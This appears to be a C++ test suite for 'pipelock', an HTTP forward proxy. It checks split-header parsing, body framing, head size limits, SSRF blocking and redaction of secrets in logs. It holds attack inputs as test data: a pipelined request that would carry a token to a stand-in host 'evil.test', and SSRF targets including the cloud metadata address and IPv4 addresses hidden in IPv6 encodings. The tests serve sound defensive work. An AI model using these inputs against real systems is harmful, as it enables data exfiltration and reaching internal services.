// Every byte pipelock forwards was parsed and decided on: heads split at any
// point are read whole, a plain request is forwarded as exactly one request
// with exactly its framed body, a tunnel's TLS ClientHello must name the
// CONNECT host, and no internal address hides from the SSRF checks.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "pipelock_harness.hpp"

using namespace pipelock_test;
namespace fs = std::filesystem;

namespace {

// A helper upstream of upstreams.py, with the port it chose.
class HelperUpstream {
 public:
  explicit HelperUpstream(std::vector<std::string> args) : dir_(bottle_test::scratch_dir("pl-up")) {
    std::vector<std::string> argv = {"python3", "-u", UPSTREAMS_PY, args[0],
                                     (dir_ / "port").string()};
    // A relative file argument (the recording's log) lives in the helper's folder.
    for (auto it = args.begin() + 1; it != args.end(); ++it) {
      argv.push_back(fs::path(*it).is_absolute() ? *it : (dir_ / *it).string());
    }
    process_ = std::make_unique<Process>(argv);
    for (int i = 0; i < 2000 && !fs::exists(dir_ / "port"); ++i) {
      std::this_thread::sleep_for(10ms);  // the port file appears once it listens
    }
    port_ = std::stoi(bottle_test::run({"cat", (dir_ / "port").string()}).second);
  }
  int port() const { return port_; }
  const fs::path& dir() const { return dir_; }

 private:
  fs::path dir_;
  std::unique_ptr<Process> process_;
  int port_ = 0;
};

std::string config(const std::vector<int>& ports, const std::string& extra = "") {
  std::string list;
  for (int p : ports) list += (list.empty() ? "" : ", ") + std::to_string(p);
  return "mode: strict\n"
         "api_allowlist: [allowed.test, evil.test]\n"
         "fetch_proxy: {listen: '127.0.0.1:0'}\n"
         "forward_proxy: {enabled: true, allowed_ports: [" +
         list +
         "]}\n"
         "ssrf: {ip_allowlist: [127.0.0.1/32]}\n"
         "dns: {host_overrides: {allowed.test: [127.0.0.1], evil.test: [127.0.0.1]}}\n" +
         extra;
}

// Sends each piece in its own write, a moment apart so each arrives on its
// own, then (half_close) ends its side, then reads until pipelock closes.
std::string send_in_pieces(int port, const std::vector<std::string>& pieces,
                           bool half_close = false) {
  const int fd = bottle_test::dial_loopback(port);
  if (fd < 0) return "";
  for (const auto& p : pieces) {
    send(fd, p.data(), p.size(), MSG_NOSIGNAL);
    std::this_thread::sleep_for(1ms);
  }
  if (half_close) shutdown(fd, SHUT_WR);
  std::string reply;
  char buf[4096];
  ssize_t n;
  while ((n = recv(fd, buf, sizeof buf, 0)) > 0) reply.append(buf, static_cast<size_t>(n));
  close(fd);
  return reply;
}

std::vector<std::string> bytes_of(const std::string& s) {
  std::vector<std::string> out;
  for (char c : s) out.emplace_back(1, c);
  return out;
}

// What the recording upstream saw, one string per connection. It writes a
// connection's line once pipelock closes that connection, which comes after
// the client has its reply: wait (up to 10 s) for the `expected` lines.
std::vector<std::string> recorded(const HelperUpstream& up, std::size_t expected) {
  std::vector<std::string> out;
  for (int attempt = 0; attempt < 1000; ++attempt) {
    out.clear();
    std::ifstream in(up.dir() / "log.jsonl");
    for (std::string line; std::getline(in, line);) {
      out.push_back(nlohmann::json::parse(line)["bytes"].get<std::string>());
    }
    if (out.size() >= expected) break;
    std::this_thread::sleep_for(10ms);
  }
  return out;
}

// The decision lines pipelock wrote so far (it writes one per connection).
std::string decisions(Pipelock& p, int count) {
  std::string out;
  for (int i = 0; i < count; ++i) {
    if (auto line = p.next_decision()) out += *line + "\n";
  }
  return out;
}

}  // namespace

TEST(PipelockEveryByte, EveryRequestShapeArrivingOneByteAtATimeIsServed) {
  Upstream up;
  HelperUpstream rec({"recording", (bottle_test::scratch_dir("rec") / "log.jsonl").string()});
  Pipelock p(config({up.port(), rec.port()}));
  const std::string u = std::to_string(up.port());
  const std::string r = std::to_string(rec.port());
  const std::string get = "GET http://allowed.test:" + u +
                          "/index.html HTTP/1.1\r\nHost: allowed.test\r\nAccept: */*\r\n\r\n";
  EXPECT_NE(send_in_pieces(p.port(), bytes_of(get)).find("hello-upstream"), std::string::npos);
  const std::string tunnel = "CONNECT allowed.test:" + u + " HTTP/1.1\r\nHost: allowed.test:" + u +
                             "\r\n\r\nGET /index.html HTTP/1.0\r\n\r\n";
  EXPECT_NE(send_in_pieces(p.port(), bytes_of(tunnel)).find("hello-upstream"), std::string::npos);
  const std::string post = "POST http://allowed.test:" + r +
                           "/p HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhello";
  EXPECT_NE(send_in_pieces(p.port(), bytes_of(post)).find("recorded"), std::string::npos);
  const std::string chunked = "POST http://allowed.test:" + r +
                              "/c HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: "
                              "chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n";
  EXPECT_NE(send_in_pieces(p.port(), bytes_of(chunked)).find("recorded"), std::string::npos);
}

TEST(PipelockEveryByte, AClientWritingTheRequestLineApartFromTheHeadersIsServedEveryTime) {
  // Python 3.6-3.8's http.client sends the CONNECT line in a write of its own.
  Upstream up;
  Pipelock p(config({up.port()}));
  const std::string u = std::to_string(up.port());
  int served = 0;
  for (int i = 0; i < 100; ++i) {
    const std::string reply = send_in_pieces(
        p.port(), {"CONNECT allowed.test:" + u + " HTTP/1.0\r\n",
                   "Host: allowed.test:" + u + "\r\n\r\n", "GET /index.html HTTP/1.0\r\n\r\n"});
    served += reply.find("hello-upstream") != std::string::npos;
  }
  EXPECT_EQ(served, 100);
}

TEST(PipelockEveryByte, APipelinedSecondRequestNeverReachesTheUpstream) {
  HelperUpstream rec({"recording", "log.jsonl"});
  Pipelock p(config({rec.port(), 80}));
  const std::string r = std::to_string(rec.port());
  const std::string second =
      "GET http://evil.test/secret?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n";
  for (const std::string& first :
       {"GET http://allowed.test:" + r + "/first HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        "POST http://allowed.test:" + r +
            "/first HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n",
        "POST http://allowed.test:" + r +
            "/first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: "
            "chunked\r\n\r\n0\r\n\r\n"}) {
    const std::string reply = send_in_pieces(p.port(), {first + second});
    EXPECT_NE(reply.find("recorded"), std::string::npos) << reply;
  }
  const auto seen = recorded(rec, 3);
  ASSERT_EQ(seen.size(), 3u);
  for (const auto& bytes : seen) {
    EXPECT_NE(bytes.find("/first"), std::string::npos) << bytes;
    EXPECT_EQ(bytes.find("secret"), std::string::npos) << "forwarded unchecked: " << bytes;
    EXPECT_EQ(bytes.find("evil.test"), std::string::npos) << bytes;
  }
  const std::string log = decisions(p, 3);
  EXPECT_NE(log.find("bytes after the request not forwarded"), std::string::npos) << log;
  EXPECT_EQ(log.find("s3cr3t"), std::string::npos) << log;
}

TEST(PipelockEveryByte, ARequestBodyIsForwardedWithExactlyItsFraming) {
  HelperUpstream rec({"recording", "log.jsonl"});
  Pipelock p(config({rec.port()}));
  const std::string r = std::to_string(rec.port());
  send_in_pieces(p.port(),
                 {"POST http://allowed.test:" + r +
                  "/a HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhelloEXTRA"});
  send_in_pieces(p.port(),
                 {"POST http://allowed.test:" + r +
                      "/b HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n",
                  "5;ext=x\r\nhel", "lo\r\n", "0\r\nTrailer-X: t\r\n\r\nEXTRA"});
  const auto seen = recorded(rec, 2);
  ASSERT_EQ(seen.size(), 2u);
  for (const auto& bytes : seen) EXPECT_EQ(bytes.find("EXTRA"), std::string::npos) << bytes;
  const auto a = seen[0].find("/a") != std::string::npos ? seen[0] : seen[1];
  const auto b = seen[0].find("/b") != std::string::npos ? seen[0] : seen[1];
  EXPECT_EQ(a.substr(a.find("\r\n\r\n") + 4), "hello") << a;
  // Re-framed by pipelock: its own chunks (as the bytes arrived), no
  // extension, no trailer, and exactly the data the client's chunks carried.
  std::string framing = b.substr(b.find("\r\n\r\n") + 4);
  EXPECT_EQ(framing.find("ext"), std::string::npos) << b;
  EXPECT_EQ(framing.find("Trailer-X"), std::string::npos) << b;
  std::string data;
  for (;;) {
    const auto eol = framing.find("\r\n");
    ASSERT_NE(eol, std::string::npos) << b;
    const std::size_t size = std::stoul(framing.substr(0, eol), nullptr, 16);
    if (size == 0) {
      EXPECT_EQ(framing.substr(eol), "\r\n\r\n") << b;
      break;
    }
    data += framing.substr(eol + 2, size);
    framing.erase(0, eol + 2 + size + 2);
  }
  EXPECT_EQ(data, "hello") << b;
}

TEST(PipelockEveryByte, TheHeadLimitCoversTheRequestLine) {
  Upstream up;
  Pipelock p(config({up.port()}, "") /* max_header_bytes: 16384 by default */);
  const std::string line = "GET http://allowed.test:" + std::to_string(up.port()) + "/" +
                           std::string(16400, 'a') + " HTTP/1.1\r\n";
  const std::string headers = "X-Pad: " + std::string(16000, 'b') + "\r\n\r\n";
  EXPECT_EQ(send_in_pieces(p.port(), {line + headers}).rfind("HTTP/1.1 431", 0), 0u);
  EXPECT_EQ(send_in_pieces(p.port(), {line + "Host: a\r\n\r\n"}).rfind("HTTP/1.1 431", 0), 0u);
}

// Found by fuzz_proxy_connection: a head the client ended before its blank
// line got a 400 when it arrived in one read and no answer at all when it
// came in pieces (the parser had not yet judged the fields it held).
TEST(PipelockEveryByte, AHeadEndedByTheClientGetsTheSameAnswerHoweverItWasCut) {
  Upstream up;
  Pipelock p(config({up.port()}));
  const std::string target = "allowed.test:" + std::to_string(up.port());
  for (const std::string& head :
       {"CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\nH\r\n",
        "GET http://" + target + "/ HTTP/1.1\r\nHost: a\r\n", std::string("GET http://")}) {
    const std::string whole = send_in_pieces(p.port(), {head}, true);
    const std::string cut = send_in_pieces(p.port(), bytes_of(head), true);
    EXPECT_EQ(whole.rfind("HTTP/1.1 400 ", 0), 0u) << head << "\n" << whole;
    EXPECT_EQ(cut.rfind("HTTP/1.1 400 ", 0), 0u) << head << "\n" << cut;
  }
}

TEST(PipelockSsrf, AnEmptyInternalListKeepsTheFloor) {
  Upstream up;
  Pipelock p(
      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\ninternal: []\n"
      "forward_proxy: {enabled: true, allowed_ports: [80, " +
      std::to_string(up.port()) + "]}\n");
  for (const std::string& url :
       {"http://127.0.0.1:" + std::to_string(up.port()) + "/index.html",
        std::string("http://169.254.169.254/latest/meta-data/"),
        "http://[::1]:" + std::to_string(up.port()) + "/", std::string("http://0.0.0.0/")}) {
    const std::string reply =
        send_in_pieces(p.port(), {"GET " + url + " HTTP/1.1\r\nHost: x\r\n\r\n"});
    EXPECT_EQ(reply.rfind("HTTP/1.1 403", 0), 0u) << url << ": " << reply;
    EXPECT_NE(reply.find("SSRF"), std::string::npos) << url << ": " << reply;
  }
}

TEST(PipelockSsrf, Ipv4HiddenInIpv6IsJudgedByTheIpv4Inside) {
  Pipelock p(
      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true, allowed_ports: [80]}\n");
  // 127.0.0.1 and 10.0.0.1 behind NAT64, 6to4, Teredo and the compatible form.
  for (const char* host : {"[64:ff9b::7f00:1]", "[64:ff9b::a00:1]", "[64:ff9b:1:7f00:0:1::]",
                           "[2002:7f00:1::1]", "[2001:0:a00:1::ffff:fffe]",
                           "[2001:0:102:304::80ff:fffe]", "[::127.0.0.1]", "[::ffff:10.0.0.1]"}) {
    const std::string reply = send_in_pieces(
        p.port(), {std::string("GET http://") + host + "/ HTTP/1.1\r\nHost: x\r\n\r\n"});
    EXPECT_EQ(reply.rfind("HTTP/1.1 403", 0), 0u) << host << ": " << reply;
    EXPECT_NE(reply.find("inside it"), std::string::npos) << host << ": " << reply;
  }
}

TEST(PipelockMessages, Ipv6AddressesAreBracketedAndRefusedTargetsAreRedactedInTheLog) {
  Pipelock p(
      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true, allowed_ports: [9]}\n"
      "ssrf: {ip_allowlist: ['100::/64']}\n");
  // The discard prefix routes nowhere: the dial fails, and says where it went.
  const std::string reply =
      send_in_pieces(p.port(), {"CONNECT [100::1]:9 HTTP/1.1\r\nHost: x\r\n\r\n"});
  EXPECT_NE(reply.find("cannot connect to [100::1]:9"), std::string::npos) << reply;
  const std::string bad = send_in_pieces(
      p.port(), {"GET http://h:99999/x?token=s3cr3t&a=1 HTTP/1.1\r\nHost: h\r\n\r\n"});
  EXPECT_EQ(bad.rfind("HTTP/1.1 400", 0), 0u) << bad;
  const std::string log = decisions(p, 2);
  EXPECT_EQ(log.find("s3cr3t"), std::string::npos) << log;
  EXPECT_NE(log.find("token=…"), std::string::npos) << log;
}
